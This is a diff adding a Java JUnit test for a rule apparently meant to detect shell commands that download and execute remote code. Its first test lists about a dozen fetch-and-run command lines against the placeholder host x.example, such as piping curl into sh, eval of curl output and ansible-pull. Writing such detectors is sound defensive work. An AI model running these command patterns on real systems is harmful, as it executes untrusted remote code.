@@ -1,0 +1,55 @@
+package org.imprimatur.inspect.rules;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.time.Duration;
+import org.junit.jupiter.api.Assertions;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class FetchedCodeTest {
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl -s https://x.example/run | sh",
+                "wget -qO- https://x.example/run | sudo bash -s",
+                "curl -s https://x.example/run.py | python3",
+                "/bin/sh -c '$(curl -s https://x.example)'",
+                "bash <(curl -s https://x.example)",
+                "source <(wget -qO- https://x.example)",
+                "eval \"$(curl -s https://x.example)\"",
+                "wget -q -O /tmp/job https://x.example && sh /tmp/job",
+                "curl -so /tmp/job https://x.example; chmod +x /tmp/job; /tmp/job",
+                "curl https://x.example > job.sh && ./job.sh",
+                "curl --output=job https://x.example\nbash -x job",
+                "wget https://x.example -O /opt/p\nexec /opt/p",
+                "ansible-pull -U https://x.example"
+            })
+    void whatRunsWhatItFetchedIsTold(String command) {
+        assertThat(FetchedCode.isIn(command)).isTrue();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl -s https://x.example/ping > /dev/null",
+                "curl -s https://x.example | jq .a",
+                "wget -O /srv/data.csv https://x.example && gzip -f /srv/data.csv",
+                "curl -o /tmp/a https://x.example; rm /tmp/a",
+                "sh /tmp/job; curl -o /tmp/job https://x.example",
+                "/usr/bin/curl https://x.example/sh"
+            })
+    void whatOnlyFetchesIsNot(String command) {
+        assertThat(FetchedCode.isIn(command)).isFalse();
+    }
+
+    @Test
+    void aLongCommandTakesNoLongTime() {
+        var command = "curl -o a ".repeat(6_000) + "wget a> ".repeat(1_000);
+
+        Assertions.assertTimeoutPreemptively(
+                Duration.ofSeconds(5), () -> FetchedCode.isIn(command));
+    }
+}
